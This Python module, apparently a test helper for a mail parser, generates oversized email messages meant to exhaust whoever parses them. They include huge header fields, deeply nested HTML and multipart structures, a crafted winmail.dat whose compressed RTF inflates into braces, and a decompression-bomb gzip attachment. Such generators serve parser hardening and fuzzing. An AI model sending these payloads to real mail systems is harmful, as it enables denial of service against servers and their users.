"""Makes messages that are built to exhaust whoever reads them, each as large as it is asked for."""

import base64
import struct
import zlib
from collections.abc import Callable
from itertools import count

Bomb = Callable[[int], bytes]
"""Octets wanted -> the message."""


def filled(piece: bytes, size: int) -> bytes:
    """So many octets of a repeated piece."""
    return piece * (size // len(piece))


def numbered(piece: bytes, size: int) -> bytes:
    """Repeat a piece with another number in each."""
    room, pieces = size, list[bytes]()
    for number in count():
        pieces.append(piece % number)
        room -= len(pieces[-1])
        if room <= 0:
            return b"".join(pieces)
    return b""


def header(name: str, piece: bytes, before: bytes = b"", after: bytes = b"") -> Bomb:
    """One header field of a repeated piece."""
    return lambda size: name.encode() + b": " + before + filled(piece, size) + after + b"\n\nhello\n"


def numbered_header(name: str, piece: bytes) -> Bomb:
    """One header field of pieces with a number each."""
    return lambda size: name.encode() + b": " + numbered(piece, size) + b"\n\nhello\n"


def block(piece: bytes) -> Bomb:
    """A header block of a repeated piece."""
    return lambda size: b"Subject: x\n" + filled(piece, size) + b"\n\nhello\n"


def body(piece: bytes, head: bytes = b"", before: bytes = b"", after: bytes = b"") -> Bomb:
    """A body of a repeated piece below header fields."""
    return lambda size: b"Subject: x\n" + head + b"\n" + before + filled(piece, size) + after


def halves(first: bytes, second: bytes, head: bytes = b"") -> Bomb:
    """A body that opens again and again, and then closes as often."""
    return lambda size: b"Subject: x\n" + head + b"\n" + filled(first, size // 2) + b"x" + filled(second, size // 2)


def numbered_body(piece: bytes, head: bytes = b"", before: bytes = b"") -> Bomb:
    """A body of pieces with a number each."""
    return lambda size: b"Subject: x\n" + head + b"\n" + before + numbered(piece, size)


def typed(kind: str, more: str = "") -> bytes:
    """A Content-Type field."""
    return f"Content-Type: {kind}{more}\n".encode()


HTML, FLOWED = typed("text/html"), typed("text/plain", "; format=flowed; delsp=yes")
ENRICHED, RICH, RTF = typed("text/enriched"), typed("text/richtext"), typed("text/rtf")
CALENDAR, CARD = typed("text/calendar"), typed("text/vcard")
MIXED, DIGEST = typed("multipart/mixed", "; boundary=b"), typed("multipart/digest", "; boundary=b")
ALTERNATIVE, RELATED = typed("multipart/alternative", "; boundary=b"), typed("multipart/related", "; boundary=b")
ENCLOSED, STATUS = typed("message/rfc822"), typed("message/delivery-status")
RECEIPT, COMPLAINT = typed("message/disposition-notification"), typed("message/feedback-report")
QUOTED, BASE64 = b"Content-Transfer-Encoding: quoted-printable\n", b"Content-Transfer-Encoding: base64\n"
UUENCODED = b"Content-Transfer-Encoding: x-uuencode\n"


def html(piece: str, before: str = "", after: str = "") -> Bomb:
    """HTML of a repeated piece."""
    return body(piece.encode(), HTML, before.encode(), after.encode())


def html_halves(first: str, second: str) -> Bomb:
    """HTML that opens again and again, and then closes as often."""
    return halves(first.encode(), second.encode(), HTML)


def html_numbered(piece: str, before: str = "") -> Bomb:
    """HTML of pieces with a number each."""
    return numbered_body(piece.encode(), HTML, before.encode())


def nested(kind: str) -> Bomb:
    """Multiparts in multiparts, each with a boundary of its own."""

    def made(size: int) -> bytes:
        return b"".join(
            b"Content-Type: %s; boundary=b%d\n\n--b%d\n" % (kind.encode(), level, level) for level in range(size // 60)
        )

    return made


def packed(piece: bytes) -> Bomb:
    """A winmail.dat with a repeated attribute."""

    def made(size: int) -> bytes:
        data = b"\x78\x9f\x3e\x22\1\0" + filled(piece, size * 3 // 4)
        return b"Subject: x\n" + typed("application/ms-tnef") + BASE64 + b"\n" + base64.encodebytes(data)

    return made


def attribute(level: int, name: int, kind: int, data: bytes) -> bytes:
    """One attribute of a winmail.dat (MS-OXTNEF 2.1.3)."""
    return struct.pack("<BHHI", level, name, kind, len(data)) + data + struct.pack("<H", sum(data) & 0xFFFF)


def properties(number: int, each: bytes) -> bytes:
    """The MAPI properties of a winmail.dat."""
    return attribute(1, 0x9003, 6, struct.pack("<I", number) + each)


def compressed_rtf(size: int) -> bytes:
    """A winmail.dat whose text unpacks to nine times its size, all of it braces."""
    chunk = b"\0" + b"{" * 8 + (b"\xff" + b"\x0c\xff" * 8) * (size // 40)
    data = struct.pack("<4I", len(chunk) + 12, 100_000_000, 0x75465A4C, 0) + chunk
    value = struct.pack("<HHII", 0x0102, 0x1009, 1, len(data)) + data + b"\0" * (-len(data) % 4)
    whole = b"\x78\x9f\x3e\x22\1\0" + properties(1, value)
    return b"Subject: x\n" + typed("application/ms-tnef") + BASE64 + b"\n" + base64.encodebytes(whole)


def gzipped(size: int) -> bytes:
    """An attached archive that unpacks to a thousand times its size."""
    data = zlib.compressobj(9, wbits=31)
    whole = data.compress(b"\0" * (size * 400)) + data.flush()
    head = b'Content-Type: application/gzip; name="a.tar.gz"\nContent-Disposition: attachment\n' + BASE64
    return b"Subject: x\n" + head + b"\n" + base64.encodebytes(whole)
